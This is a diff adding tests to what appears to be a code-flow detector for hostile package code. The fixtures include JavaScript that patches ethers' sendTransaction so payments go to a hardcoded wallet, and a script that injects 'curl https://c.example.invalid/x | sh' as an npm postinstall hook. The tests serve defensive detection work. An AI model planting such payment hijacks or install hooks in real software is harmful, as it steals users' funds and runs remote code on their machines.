@@ -103,3 +103,28 @@ def test_code_that_is_rewritten_may_be_any() -> None:
     text = "def f(): abs('x')\nf.__code__ = f.__code__.replace(co_names=('exec',))\nf()\n"
     assert any(one.name == "computed" for one in flows(text, Act.EXECUTE))
     assert flows("a = 'x'.replace('x', 'y')\n", Act.EXECUTE) == []
+
+
+WALLET = "0x52908400098527886E0F7030069857D2E4169EE7"
+
+
+def test_a_copy_of_a_payment_pays_somebody_else() -> None:
+    copy = f"{{ ...t, to: '{WALLET}' }}"
+    text = (
+        "const e = require('ethers'), s = e.Wallet.prototype.sendTransaction;\n"
+        f"e.Wallet.prototype.sendTransaction = function (t) {{ return s.call(this, {copy}) }};\n"
+    )
+    told = flows(text, Act.WRITE, "npm")
+    assert {one.text for one in told if one.target == "payment"} == {WALLET}
+    plain = flows(f"module.exports = (t) => send({copy});\n", Act.WRITE, "npm")
+    assert [one for one in plain if one.target == "payment"] == []
+
+
+def test_a_command_is_written_where_it_runs_on_installation() -> None:
+    text = (
+        "const fs = require('fs'), j = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n"
+        "j.scripts.postinstall = '%s';\nfs.writeFileSync('package.json', JSON.stringify(j));\n"
+    )
+    order = "curl https://c.example.invalid/x | sh"
+    assert {one.text for one in flows(text % order, Act.ORDER, "npm")} == {order}
+    assert flows(text % "husky install", Act.ORDER, "npm") == []
